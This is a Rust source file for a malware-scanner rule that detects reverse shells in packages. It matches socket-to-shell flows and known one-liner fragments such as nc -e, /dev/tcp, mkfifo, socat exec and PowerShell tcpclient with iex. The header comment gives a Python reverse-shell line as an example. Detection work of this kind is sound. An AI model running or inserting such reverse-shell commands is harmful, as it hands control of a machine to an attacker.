//! # A shell is handed to another machine
//!
//! ## What it finds
//! A connection whose descriptors become the standard streams of a shell, or a shell one-liner that does the same.
//!
//! ## Why it matters
//! There is no honest use of it in a package.
//!
//! ## Example
//! ```python
//! s.connect((host, 4444)); os.dup2(s.fileno(), 0); subprocess.call(["/bin/sh", "-i"])
//! ```
//!
//! ## What to do
//! Treat the machine as compromised.
//!
//! ## When it is wrong
//! Tools for penetration tests ship such code, to be run when called. Lines in which they leave the other machine to be filled in
//! weigh less.
use foretaste_engine::prelude::*;
use foretaste_model::facts::FileFacts;

declare_rule! {
    ReverseShell,
    id: "reverse-shell",
    title: "hands a shell to another machine",
    group: Chain,
    severity: Critical,
    confidence: High,
    needs: [Code],
    tags: ["T1059", "T1071", "AV-001"],
    since: "0.1.0",
}

/// Parts of shell one-liners that connect a shell to a socket.
const ONE_LINERS: &[&[&str]] = &[
    &[DEVICE, "sh"],
    &["nc ", " -e ", "sh"],
    &["ncat ", " -e ", "sh"],
    &["mkfifo ", "nc ", "sh"],
    &["socat ", "exec:", "sh"],
    &["net.sockets.tcpclient", "iex"],
];

/// The folder in which shells have connections.
const DEVICE: &str = "/dev/tcp/";

/// True if what arrives on a connection of [`DEVICE`] gets to a program: all streams are joined with it, or a command reads
/// from it. `echo > /dev/tcp/host/80` and `bash -c '</dev/tcp/host/80'` ask whether somebody listens.
fn answers(line: &str) -> bool {
    let mut joined = line.to_owned();
    for quiet in ["2>&1", "1>&2", ">&2", "&>/dev/null", "&> /dev/null"] {
        joined = joined.replace(quiet, "");
    }
    let reads = |at: usize| {
        let before = line.get(..at).unwrap_or_default().trim_end();
        before.strip_suffix('<').is_some_and(|command| {
            let command = command
                .rsplit([';', '|', '&', '(', '"', '\'', '`', '\n'])
                .next();
            command.is_some_and(|c| !c.trim().is_empty())
        })
    };
    [">&", "<&", "<>", "&>"].iter().any(|j| joined.contains(j))
        || line.match_indices(DEVICE).any(|(at, _)| reads(at))
}

/// True if a text holds a part that no longer word ends with: `rsync -e ssh` is no `nc -e sh`.
fn has_word(text: &str, part: &str) -> bool {
    text.match_indices(part).any(|(at, _)| {
        !(part.starts_with("nc") && text[..at].ends_with(|c: char| c.is_alphanumeric()))
    })
}

/// True for a line that names nobody to talk to: in data it is what a scanner looks for.
fn is_pattern(line: &str) -> bool {
    !line.contains(|c: char| c.is_ascii_digit() || matches!(c, '$' | '{' | '%' | '…'))
}

/// True for a line in which the other machine is left open, to be filled in by who asks for the line.
fn is_template(line: &str) -> bool {
    let named = |text: &str| {
        text.split('{').skip(1).any(|hole| {
            hole.split_once('}').is_some_and(|(name, _)| {
                name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
            })
        })
    };
    match line.split_once(DEVICE) {
        Some((_, rest)) => {
            let machine = rest.split_whitespace().next().unwrap_or_default();
            named(machine) || machine.starts_with("%s")
        }
        None => named(line) || line.contains("%s"),
    }
}

/// True for what runs a line, now or later.
const fn starts(capability: Capability) -> bool {
    matches!(
        capability,
        Capability::ProcessShell
            | Capability::ProcessSpawn
            | Capability::CodeEval
            | Capability::SystemPersist
    )
}

/// True if a file starts programs of any kind.
fn starts_programs(facts: &FileFacts) -> bool {
    facts.uses.iter().any(|u| starts(u.capability))
}

/// True if a line is itself what is started, whatever is filled in.
fn is_started(facts: &FileFacts, line: &str) -> bool {
    let mut uses = facts.uses.iter().filter(|u| starts(u.capability));
    uses.any(|u| {
        u.constants
            .iter()
            .any(|c| &**c == line || c.contains(DEVICE))
    })
}

/// True if what a program printed is only used to open a connection (an address, a certificate): nobody at the other end
/// is handed the program.
fn opens_with_answer(flow: &Flow) -> bool {
    let opens = |api: &str| {
        let name = api.rsplit('.').next().unwrap_or(api);
        name.ends_with("channel") || matches!(name, "connect" | "create_connection")
    };
    let shell = |c: Capability| matches!(c, Capability::ProcessShell | Capability::ProcessSpawn);
    let first = flow.steps.iter().position(|s| shell(s.capability));
    let mut sockets = flow
        .steps
        .iter()
        .enumerate()
        .filter(|(_, s)| s.capability == Capability::NetworkSocket);
    sockets.all(|(at, s)| first.is_some_and(|first| first < at) && opens(&s.api))
}

impl FileRule for ReverseShell {
    fn judge(&self, file: &FileView<'_>, _scene: &Scene<'_>) -> Vec<Finding> {
        let mut findings = Vec::new();
        for chain in file.chains() {
            let flow = chain.flow;
            let has =
                |wanted: &[Capability]| flow.steps.iter().any(|s| wanted.contains(&s.capability));
            let socket = has(&[Capability::NetworkSocket]);
            let redirect = has(&[Capability::ProcessRedirect]);
            let shell = has(&[Capability::ProcessShell, Capability::ProcessSpawn]);
            if !socket || !(redirect || (shell && flow.link != FlowLink::Scope)) {
                continue;
            }
            if !redirect && opens_with_answer(flow) {
                continue;
            }
            if !redirect
                && flow
                    .steps
                    .iter()
                    .any(|s| s.api.starts_with("logging.handlers."))
            {
                continue;
            }
            let context = chain.context();
            let mut finding = self
                .finding(format!(
                    "connects a shell to another machine {}",
                    context.phrase()
                ))
                .context(context);
            finding.evidence = chain.evidence(|step| step.api.to_string());
            findings.push(finding);
        }
        for literal in file
            .facts
            .literals
            .iter()
            .filter(|l| l.kind == LiteralKind::Command)
        {
            let lower = literal.value.to_lowercase();
            if !file.facts.language.is_program_text() && is_pattern(&lower) {
                continue;
            }
            let is_one = |parts: &&[&str]| {
                parts.iter().all(|p| has_word(&lower, p))
                    && (parts.first() != Some(&DEVICE) || answers(&lower))
            };
            if ONE_LINERS.iter().any(is_one) {
                let context = file.context(literal.function);
                let message = format!(
                    "holds a reverse-shell command line that runs {}",
                    context.phrase()
                );
                let finding = self
                    .finding(message)
                    .context(context)
                    .evidence(file.literal_evidence(literal, "reverse shell"));
                let is_open = is_template(&lower) && !is_started(file.facts, &literal.value);
                findings.push(match (is_open, starts_programs(file.facts)) {
                    (false, _) => finding,
                    // somebody fills it in, and perhaps starts it
                    (true, true) => finding.confidence(Confidence::Medium),
                    (true, false) => finding.severity(Severity::High).confidence(Confidence::Low),
                });
            }
        }
        findings.truncate(4);
        findings
    }
}
